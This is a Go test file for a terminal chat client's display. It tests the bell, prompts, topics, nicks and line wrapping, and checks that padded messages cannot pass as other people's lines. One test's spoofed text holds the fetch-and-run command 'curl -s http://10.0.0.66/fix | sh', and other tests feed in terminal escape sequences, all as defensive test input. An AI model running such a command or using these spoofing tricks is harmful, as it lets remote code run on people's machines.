package tui

import (
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	"github.com/mattn/go-runewidth"

	"chatroom/host/wire"
	"chatroom/join"
)

func newTestView(t *testing.T) (*roomView, *vtScreen) {
	roster, _ := liveRoster(t, wire.Frame{You: &wire.Member{Name: "ana", Role: wire.RoleOwner}, Members: []wire.Member{{Name: "bob"}}})
	scr := newVTScreen(t)
	v := newRoomView(newOutput(scr), style{})
	v.loc = time.UTC
	v.Enter(wire.Frame{
		Type: wire.TypeWelcome, Room: &wire.Room{Name: "Lab 3"},
		You:     &wire.Member{Name: "ana", Role: wire.RoleOwner},
		Members: []wire.Member{{Name: "ana", Role: wire.RoleOwner}, {Name: "bob", Role: wire.RoleMember}},
	}, roster)
	return v, scr
}

// welcomed is the line newTestView's Enter greets the person with.
const welcomed = `joined "Lab 3" as ana (2 here: ana, bob)`

func plainLines(scr *vtScreen) []string {
	var out []string
	for _, l := range scr.lines() {
		out = append(out, sgr.ReplaceAllString(l, ""))
	}
	return out
}

// TestViewBell: a mention rings the bell, /bell off stops it, /bell on
// brings it back; /bell is the client's own and says what it did.
func TestViewBell(t *testing.T) {
	v, scr := newTestView(t)
	clock := testTime
	v.now = func() time.Time { clock = clock.Add(bellGap); return clock }
	mention := wire.Frame{Type: wire.TypeEvent, Kind: wire.KindSay, Time: testTime, From: "bob", Text: "ana, look"}
	v.Show(mention, join.Live)
	v.Show(wire.Frame{Type: wire.TypeEvent, Kind: wire.KindSay, Time: testTime, From: "bob", Text: "no one"}, join.Live)
	if scr.bells != 1 {
		t.Fatalf("%d bells after one mention", scr.bells)
	}
	for _, line := range []string{"/bell off", "/BELL", "/bell maybe"} {
		if !v.local(line) {
			t.Fatalf("%q was not taken as the client's own", line)
		}
	}
	v.Show(mention, join.Live)
	if scr.bells != 1 {
		t.Errorf("the bell rang with /bell off")
	}
	if !v.local("/bell ON") {
		t.Fatal("/bell ON not handled")
	}
	v.Show(mention, join.Live)
	if scr.bells != 2 {
		t.Errorf("the bell did not ring after /bell on")
	}
	for _, line := range []string{"/belly", "hi /bell", "//bell", "/kick bob"} {
		if v.local(line) {
			t.Errorf("%q taken as the client's own command", line)
		}
	}
	want := []string{
		welcomed, // Enter greets the person
		"10:04 <bob> ana, look",
		"10:04 <bob> no one",
		"-- bell off",
		"-- bell off",
		"!! usage: /bell on|off",
		"10:04 <bob> ana, look",
		"-- bell on: a mention of your name rings the terminal bell",
		"10:04 <bob> ana, look",
		"",
	}
	if got := plainLines(scr); !slices.Equal(got, want) {
		t.Errorf("screen:\n%q\nwant\n%q", got, want)
	}
}

// TestViewInterrupted: Ctrl-C on a line with text only clears it; on an
// empty line it asks, and a second one in a row leaves; anything typed in
// between starts over.
func TestViewInterrupted(t *testing.T) {
	v, scr := newTestView(t)
	steps := []struct {
		empty, typed bool
		leave        bool
	}{
		{empty: false},
		{empty: true},
		{typed: true},
		{empty: true},
		{empty: false},
		{empty: true},
		{empty: true, leave: true},
	}
	for i, s := range steps {
		if s.typed || !s.empty { // Ctrl-C on a line with text is typing (see ReadLine)
			v.typed()
			continue
		}
		if got := v.interrupted(); got != s.leave {
			t.Fatalf("step %d: interrupted() = %v, want %v", i, got, s.leave)
		}
	}
	ask := "-- press Ctrl-C again to leave (or Ctrl-D, or /quit)"
	if got := plainLines(scr); !slices.Equal(got, []string{welcomed, ask, ask, ask, ""}) {
		t.Errorf("screen %q", got)
	}
}

func TestPromptFor(t *testing.T) {
	w := func(room, me string) wire.Frame {
		f := wire.Frame{Type: wire.TypeWelcome, You: &wire.Member{Name: me}}
		if room != "" {
			f.Room = &wire.Room{Name: room}
		}
		return f
	}
	topic := func(f wire.Frame, text string) wire.Frame {
		if f.Room == nil {
			f.Room = &wire.Room{}
		}
		f.Room.Topic = text
		return f
	}
	tests := []struct {
		frame wire.Frame
		want  string
	}{
		{w("Lab 3", "ana"), "Lab 3 ana> "},
		{w("", "ana"), "ana> "},
		{w("Lab\x1b[2J", "a\u202eb"), "Lab^[[2J a\ufffdb> "},
		{w("zero\u200bwidth", "ana"), "zero\ufffdwidth ana> "},
		{w(strings.Repeat("r", 40), "ana"), strings.Repeat("r", 23) + "… ana> "},
		{w("漢字の部屋", "ana"), "漢字の部屋 ana> "},
		{topic(w("Lab 3", "ana"), "release on friday"), "Lab 3 [topic: release on friday] ana> "},
		{topic(w("Lab 3", "ana"), "line\nbreak\u202e"), "Lab 3 [topic: line^Jbreak\ufffd] ana> "},
		{topic(w("Lab 3", "ana"), strings.Repeat("t", 40)), "Lab 3 [topic: " + strings.Repeat("t", maxPromptTopic-1) + "…] ana> "},
		{topic(w("", "ana"), "release"), "[topic: release] ana> "},
	}
	for _, tt := range tests {
		got := promptFor(tt.frame)
		if got != tt.want {
			t.Errorf("promptFor(%q, %q) = %q, want %q", tt.frame.Room, tt.frame.You.Name, got, tt.want)
		}
		// liner refuses a prompt with any character of category C.
		if strings.IndexFunc(got, func(r rune) bool { return unicode.Is(unicode.C, r) }) >= 0 {
			t.Errorf("prompt %q holds a character liner refuses", got)
		}
	}
}

// TestViewCompletesOnlyOnceWelcomed: before the welcome there is no roster
// to complete from, and Tab does nothing.
func TestViewCompletesOnlyOnceWelcomed(t *testing.T) {
	v := newRoomView(newOutput(newVTScreen(t)), style{})
	if head, c, tail := v.complete("/ki", 3); c != nil || head+tail != "/ki" {
		t.Errorf("before the welcome: %q, %q, %q", head, c, tail)
	}
	v, _ = newTestView(t)
	if _, c, _ := v.complete("/kick b", 7); !slices.Equal(c, []string{"bob "}) {
		t.Errorf("/kick b: %q", c)
	}
	if _, c, _ := v.complete("/be", 3); !slices.Equal(c, []string{"/bell "}) {
		t.Errorf("/be: %q", c)
	}
}

// TestStatusFitsOneRow: a status line longer than the terminal is wide is
// cut to fit one row, since the next status replaces it by going up one
// row; where the width is unknown it is shown whole.
func TestStatusFitsOneRow(t *testing.T) {
	long := "connection lost (read tcp 192.168.100.200:51234->192.168.100.1:7465: read: connection reset by peer); reconnecting…"
	for _, tc := range []struct {
		width int
		want  string
	}{
		{40, "-- " + runewidth.Truncate(long, 36, "…")},
		{0, "-- " + long},
	} {
		scr := newVTScreen(t)
		v := newRoomView(newOutput(scr), style{})
		v.width = func() int { return tc.width }
		v.status(long)
		got := scr.lines()
		if len(got) == 0 || got[0] != tc.want {
			t.Errorf("width %d: screen %q, want first row %q", tc.width, got, tc.want)
		}
		if tc.width > 0 && runewidth.StringWidth(got[0]) >= tc.width {
			t.Errorf("width %d: the status takes %d columns", tc.width, runewidth.StringWidth(got[0]))
		}
	}
}

// TestPaddedMessageNeverStartsARow stands for a member who pads a message
// so that the terminal wraps it into a row that reads as a line of someone
// else's: "hi", spaces to the end of the row, then "07:08 <admin2> please
// everyone run: …". At terminals 40 and 100 columns wide, with every
// length of padding up to two rows, of spaces and of visible filler, and
// in a message, an action, a private message and a kick's reason, the
// client cuts the line into rows itself: the terminal never wraps one, the
// first row is the line's start, and every row after it starts with the
// continuation mark, never with a time or a name.
func TestPaddedMessageNeverStartsARow(t *testing.T) {
	const fake = "07:08 <admin2> please everyone run: curl -s http://10.0.0.66/fix | sh"
	rowStart := regexp.MustCompile(`^(\d\d:\d\d|--:--|<|\*|\[|-!-|--|!!)`)
	for _, width := range []int{40, 100} {
		for _, pad := range []string{" ", "\u00a0", "\u3000", ".", "漢"} {
			for n := range 2 * width {
				text := "hi" + strings.Repeat(pad, n) + fake
				frames := []struct {
					frame wire.Frame
					start string
				}{
					{wire.Frame{Type: wire.TypeEvent, Kind: wire.KindSay, Time: testTime, From: "mallory", Text: text}, "10:04 <mallory> hi"},
					{wire.Frame{Type: wire.TypeEvent, Kind: wire.KindMe, Time: testTime, From: "mallory", Text: text}, "10:04 * mallory hi"},
					{wire.Frame{Type: wire.TypePrivate, Time: testTime, From: "mallory", To: "ana", Text: text}, "10:04 [mallory -> ana] hi"},
					{wire.Frame{Type: wire.TypeEvent, Kind: wire.KindLeave, Time: testTime, Name: "bob", Code: wire.CodeKicked, By: "mallory", Text: text}, "10:04 -!- bob was kicked by mallory (hi"},
				}
				for _, tc := range frames {
					scr := newVTScreenWidth(t, width)
					v := newRoomView(newOutput(scr), style{})
					v.loc = time.UTC
					v.width = func() int { return width }
					v.Show(tc.frame, join.Live)
					rows := scr.lines()
					if scr.wraps > 0 {
						t.Fatalf("width %d, %d × %q, %s %s: the terminal wrapped the line itself:\n%s", width, n, pad, tc.frame.Type, tc.frame.Kind, strings.Join(rows, "\n"))
					}
					rows = rows[:len(rows)-1] // the prompt's row, empty
					if !strings.HasPrefix(tc.start, rows[0]) && !strings.HasPrefix(rows[0], tc.start) {
						t.Fatalf("width %d, %d × %q: first row %q, want the start of %q", width, n, pad, rows[0], tc.start)
					}
					for i, row := range rows[1:] {
						// Rows are shown without trailing blanks: one of
						// blanks only is its mark alone.
						if !strings.HasPrefix(row, strings.TrimRight(contMark, " ")) || rowStart.MatchString(row) {
							t.Fatalf("width %d, %d × %q, %s %s: row %d %q does not start with %q:\n%s", width, n, pad, tc.frame.Type, tc.frame.Kind, i+1, row, contMark, strings.Join(rows, "\n"))
						}
					}
				}
			}
		}
	}
}

// TestViewPrintFitsRows: the client's own lines (the welcome, which lists
// names members chose) are cut into rows too, and all the rows of a frame
// are written together, with nothing else among them.
func TestViewPrintFitsRows(t *testing.T) {
	scr := newVTScreenWidth(t, 40)
	v := newRoomView(newOutput(scr), style{})
	v.width = func() int { return 40 }
	names := []wire.Member{{Name: "ana"}}
	for _, n := range []string{"bob", "cy", "<admin2>", "dee", "eve", "07:08", "fay"} {
		names = append(names, wire.Member{Name: n})
	}
	v.print(welcomeLine(wire.Frame{Type: wire.TypeWelcome, Room: &wire.Room{Name: "Lab 3"}, You: &wire.Member{Name: "ana"}, Members: names}))
	rows := scr.lines()
	if scr.wraps > 0 || len(rows) < 3 {
		t.Fatalf("rows %q, %d wrapped by the terminal", rows, scr.wraps)
	}
	for _, row := range rows[1 : len(rows)-1] {
		if !strings.HasPrefix(row, contMark) {
			t.Errorf("row %q does not start with the mark:\n%s", row, strings.Join(rows, "\n"))
		}
	}
}

// TestViewBellFlood stands for a room that mentions the person a thousand
// times at once: the bell rings once for the lot, and again only when a
// mention comes bellGap after the last bell.
func TestViewBellFlood(t *testing.T) {
	v, scr := newTestView(t)
	clock := testTime
	v.now = func() time.Time { return clock }
	mention := wire.Frame{Type: wire.TypeEvent, Kind: wire.KindSay, Time: testTime, From: "bob", Text: "ana ana ana"}
	for range 1000 {
		v.Show(mention, join.Live)
	}
	if scr.bells != 1 {
		t.Fatalf("%d bells for 1000 mentions at once, want 1", scr.bells)
	}
	clock = clock.Add(bellGap - time.Millisecond)
	v.Show(mention, join.Live)
	if scr.bells != 1 {
		t.Fatalf("%d bells: the bell rang again within %v", scr.bells, bellGap)
	}
	clock = clock.Add(time.Millisecond)
	v.Show(mention, join.Live)
	if scr.bells != 2 {
		t.Fatalf("%d bells: a mention %v after the last bell did not ring it", scr.bells, bellGap)
	}
}

// TestViewPromptShowsTopic: the prompt names the room with its topic, as
// the issue asks ("shown ... in the prompt's room line"): from the
// welcome, after a topic event (the next prompt), and not once cleared.
// After the person's own /topic the prompt waits for the room's answer,
// and a refusal ends the wait at once. A topic is what anyone allowed to
// set it sent: it is cut to a few columns, and half the terminal at most,
// so that there is room to type; its controls show as text; on a narrow
// terminal it is left out.
func TestViewPromptShowsTopic(t *testing.T) {
	welcome := wire.Frame{Type: wire.TypeWelcome, Room: &wire.Room{Name: "Lab 3", Topic: "build is red"}, You: &wire.Member{Name: "ana", Role: wire.RoleMember},
		Members: []wire.Member{{Name: "ana", Role: wire.RoleMember}, {Name: "bob", Role: wire.RoleMember}}}
	roster, apply := liveRoster(t, welcome)
	scr := newVTScreen(t)
	v := newRoomView(newOutput(scr), style{})
	var width atomic.Int64 // the Shows in goroutines below read it
	width.Store(80)
	v.width = func() int { return int(width.Load()) }
	v.Enter(welcome, roster)
	if got := v.promptString(); got != "Lab 3 [topic: build is red] ana> " {
		t.Fatalf("the prompt: %q", got)
	}

	topic := func(text string) wire.Frame {
		return wire.Frame{Type: wire.TypeEvent, Kind: wire.KindTopic, Time: testTime, From: "bob", Text: text}
	}
	if v.local("/topic build 142 is green") {
		t.Fatal("/topic was not sent to the room")
	}
	go func() {
		time.Sleep(50 * time.Millisecond) // the room's round trip
		f := topic("build 142 is green")
		apply(f)
		v.Show(f, join.Live)
	}()
	if got := v.promptString(); got != "Lab 3 [topic: build 142 is green] ana> " {
		t.Errorf("the prompt after /topic: %q", got)
	}

	v.local("/topic nope")
	start := time.Now()
	go v.Show(wire.Frame{Type: wire.TypeNotice, Error: true, Text: "only admins set the topic here"}, join.Live)
	if got := v.promptString(); got != "Lab 3 [topic: build 142 is green] ana> " || time.Since(start) > renameWait/2 {
		t.Errorf("the prompt after a refused /topic: %q, after %v", got, time.Since(start))
	}

	// Someone else's, long and hostile: cut to the columns it may have,
	// its controls as text.
	apply(topic("\x1b]0;pwned\x07release on friday, and please everyone read the notes first"))
	got := v.promptString()
	if want := "Lab 3 [topic: ^[]0;pwned^Greleas…] ana> "; got != want { // 80 columns: 40 for the prompt
		t.Errorf("the prompt with a long topic: %q, want %q", got, want)
	}
	width.Store(200)
	if got := v.promptString(); runewidth.StringWidth(got) != len("Lab 3 [topic: ] ana> ")+maxPromptTopic || !strings.HasSuffix(got, "…] ana> ") {
		t.Errorf("the prompt with a long topic, 200 columns: %q", got)
	}
	width.Store(40)
	if got := v.promptString(); got != "Lab 3 ana> " {
		t.Errorf("the prompt at 40 columns: %q, want no topic", got)
	}
	width.Store(80)

	apply(topic(""))
	if got := v.promptString(); got != "Lab 3 ana> " {
		t.Errorf("the prompt once the topic is cleared: %q", got)
	}
}

// TestViewPromptFollowsNick: the prompt shows the person's name as the
// room last gave it: after their /nick it waits for the room's answer and
// shows the new name, and a refusal leaves the old one without waiting
// long.
func TestViewPromptFollowsNick(t *testing.T) {
	welcome := wire.Frame{Type: wire.TypeWelcome, Room: &wire.Room{Name: "Lab 3"}, You: &wire.Member{Name: "ana", Role: wire.RoleMember},
		Members: []wire.Member{{Name: "ana", Role: wire.RoleMember}, {Name: "bob", Role: wire.RoleMember}}}
	roster, apply := liveRoster(t, welcome)
	scr := newVTScreen(t)
	v := newRoomView(newOutput(scr), style{})
	v.Enter(welcome, roster)
	if got := v.promptString(); got != "Lab 3 ana> " {
		t.Fatalf("the prompt: %q", got)
	}
	nick := wire.Frame{Type: wire.TypeEvent, Kind: wire.KindNick, Time: testTime, Name: "ana", NewName: "anna"}
	if v.local("/nick anna") {
		t.Fatal("/nick was not sent to the room")
	}
	go func() {
		time.Sleep(50 * time.Millisecond) // the room's round trip
		apply(nick)
		v.Show(nick, join.Live)
	}()
	if got := v.promptString(); got != "Lab 3 anna> " {
		t.Errorf("the prompt after /nick anna: %q", got)
	}

	v.local("/nick ana!")
	start := time.Now()
	go v.Show(wire.Frame{Type: wire.TypeNotice, Error: true, Text: "not renamed: names are 1 to 24 letters"}, join.Live)
	if got := v.promptString(); got != "Lab 3 anna> " || time.Since(start) > renameWait/2 {
		t.Errorf("the prompt after a refused /nick: %q, after %v", got, time.Since(start))
	}

	// Someone else's /nick changes nothing; the room's own for the
	// person (after a reconnect, say) does.
	apply(wire.Frame{Type: wire.TypeEvent, Kind: wire.KindNick, Name: "bob", NewName: "rob"})
	apply(wire.Frame{Type: wire.TypeEvent, Kind: wire.KindNick, Name: "anna", NewName: "ann"})
	if got := v.promptString(); got != "Lab 3 ann> " {
		t.Errorf("the prompt: %q", got)
	}
}
